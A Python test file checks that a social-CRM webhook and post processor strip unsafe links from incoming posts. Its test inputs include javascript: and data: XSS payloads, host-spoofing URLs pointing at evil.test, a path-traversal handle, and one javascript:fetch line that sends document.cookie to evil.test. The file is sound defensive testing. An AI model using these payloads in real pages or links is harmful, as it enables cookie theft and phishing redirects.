"""Links an agent may click are https links on the platform's own hosts: a hostile delivery cannot plant another.

Deliveries go through WebhookFunction's handler; the end effect (stored post, card, Connect task reference)
through the processor's domain function with fakes.
"""

from __future__ import annotations

import base64
import json
from dataclasses import replace

import pytest

from socialcrm.connectors.connect_tasks import ConnectTasksConnector
from socialcrm.links import safe_link
from socialcrm.model import Author, CanonicalPost
from socialcrm.processing import process_post
from tests.fakes import FakeIngestQueue
from tests.signers import fixture, sign
from tests.support.functions import LambdaContext, load_handler

SECRET = "link-safety-test-secret-0123456789"
CREDENTIALS = dict.fromkeys(("app_secret", "consumer_secret", "client_secret", "hub_secret", "secret"), SECRET)
YOUTUBE_ALTERNATE = '<link rel="alternate" href="https://www.youtube.com/watch?v=dQw4w9WgXcQ"/>'


class Secrets:
    def platform_credentials(self, _name: str) -> dict[str, str]:
        return dict(CREDENTIALS)


@pytest.fixture
def webhook(monkeypatch):
    monkeypatch.setenv("POWERTOOLS_TRACE_DISABLED", "true")
    monkeypatch.setenv("POWERTOOLS_METRICS_NAMESPACE", "SocialCRM")
    monkeypatch.setenv("YOUTUBE_CHANNEL_IDS", "UCada0000000000000000001")  # the channel of events/webhooks/youtube_*
    module = load_handler("webhook")
    queue = FakeIngestQueue()
    monkeypatch.setattr(module, "secrets", Secrets)
    monkeypatch.setattr(module, "ingest_queue", lambda: queue)

    def deliver(platform: str, body: bytes) -> list[CanonicalPost]:
        headers, query = sign(platform, body, SECRET)
        path = {"source": platform.split("/", 1)[1]} if platform.startswith("generic/") else {"platform": platform}
        event = {"version": "2.0", "headers": headers, "queryStringParameters": query or None, "pathParameters": path,
                 "requestContext": {"http": {"method": "POST"}, "requestId": "r"},
                 "body": base64.b64encode(body).decode(), "isBase64Encoded": True}
        assert module.lambda_handler(event, LambdaContext())["statusCode"] == 200
        return [CanonicalPost.from_message(json.loads(json.dumps(p.to_message()))) for p in queue.sent]

    return deliver


def test_a_youtube_entry_linking_to_javascript_gets_the_video_link_built_from_its_id(webhook, world):
    body = fixture("youtube_video.xml").decode().replace(YOUTUBE_ALTERNATE,
                                                         '<link rel="alternate" href="javascript:alert(1)"/>')
    assert "javascript:alert(1)" in body

    [post] = webhook("youtube", body.encode())

    assert post.url == "https://www.youtube.com/watch?v=dQw4w9WgXcQ"
    deps, _ = world
    process_post(post, deps)
    assert deps.posts.items["youtube#dQw4w9WgXcQ"].url == "https://www.youtube.com/watch?v=dQw4w9WgXcQ"


@pytest.mark.parametrize("link", ["data:text/html,<script>alert(1)</script>", "javascript:alert(1)",
                                  "http://forum.example.com/t/1", " javascript:alert(1)", "https://a@evil.test/x"])
def test_a_generic_delivery_with_an_unsafe_url_is_taken_in_without_it(webhook, link):
    document = json.loads(fixture("generic_discourse_post.json"))
    document["post"]["post_url"] = link

    [post] = webhook("generic/discourse", json.dumps(document).encode())

    assert (post.post_id, post.url) == ("4412", None)


@pytest.mark.parametrize(("link", "kept"), [
    ("https://www.trustpilot.com/reviews/6744a1b2c3d4e5f601234567", True),
    ("https://trustpilot.com.evil.test/reviews/1", False),
    ("https://evil.test/reviews/1", False),
])
def test_a_mapping_that_declares_its_hosts_links_only_to_them(webhook, link, kept):
    document = json.loads(fixture("generic_trustpilot_review.json"))
    document["events"][0]["eventData"]["link"] = link

    posts = webhook("generic/trustpilot", json.dumps(document).encode())

    assert posts[0].url == (link if kept else None)


def test_an_x_handle_cannot_steer_the_tweet_link(webhook):
    document = json.loads(fixture("x_tweet_create.json"))
    document["tweet_create_events"][0]["user"]["screen_name"] = "../../i/flow/login?next=evil"

    [post] = webhook("x", json.dumps(document).encode())

    assert post.url.startswith("https://x.com/..%2F..%2Fi%2Fflow%2Flogin%3Fnext%3Devil/status/")


def test_a_queued_post_with_a_javascript_link_reaches_no_card_and_no_connect_task(world):
    # e.g. a message left on the queue by an earlier version, or a redriven one: the processor reads it here
    message = CanonicalPost(platform="facebook", post_id="p-js", kind="comment", author=Author("facebook", "1001"),
                            text="My order arrived broken", created_at="2026-11-20T09:00:00Z").to_message()
    message["url"] = "javascript:fetch('https://evil.test/?c='+document.cookie)"
    deps, _ = world

    process_post(CanonicalPost.from_message(message), deps)

    assert deps.posts.items["facebook#p-js"].url is None
    [push] = deps.push_queue.pushes
    assert push.url is None
    tasks = ConnectTasksConnector("9308c2a1-9bc6-4cea-8290-6c0b4a6d38fa", "b1a2c3d4-0000-4000-8000-00000000f10e",
                                  window=None, window_minutes=240, client=object())
    assert "References" not in tasks.task_request(push)
    assert "javascript" not in json.dumps(deps.cards.cards)


def test_a_javascript_link_stored_before_this_guard_leaves_the_card_at_its_next_rebuild(world):
    deps, _ = world
    first = CanonicalPost(platform="facebook", post_id="p-old", kind="comment", author=Author("facebook", "1001"),
                          text="Still broken", created_at="2026-11-20T09:00:00Z")
    process_post(first, deps)
    old = deps.posts.items["facebook#p-old"]
    deps.posts.items["facebook#p-old"] = replace(old, url="javascript:alert(document.domain)")  # as stored earlier

    process_post(CanonicalPost(platform="facebook", post_id="p-new", kind="comment", author=Author("facebook", "1001"),
                               text="And again", created_at="2026-11-20T10:00:00Z"), deps)

    card = deps.cards.cards["PHONE#+447911123456"]
    assert [(p["post_key"], p["url"]) for p in card["posts"]] == [("facebook#p-new", ""), ("facebook#p-old", "")]


@pytest.mark.parametrize(("url", "hosts", "safe"), [
    ("https://www.reddit.com/r/acme/comments/1/x/", ("reddit.com",), True),
    ("https://www.reddit.com@evil.test/r/acme", ("reddit.com",), False),  # a permalink of "@evil.test/..."
    ("https://reddit.com.evil.test/", ("reddit.com",), False),
    ("https://www.reddit.com:8443/r/acme", ("reddit.com",), False),
    ("https://www.reddit.com\\@evil.test/", ("reddit.com",), False),
    ("HTTPS://www.reddit.com/r/acme", ("reddit.com",), True),
    ("javascript://www.reddit.com/%0aalert(1)", ("reddit.com",), False),
    ("https://any.example/path", None, True),
    ("https:///path-only", None, False),
    ("https://" + "a" * 3000 + ".example/", None, False),
])
def test_safe_link(url, hosts, safe):
    assert safe_link(url, hosts) == (url if safe else None)
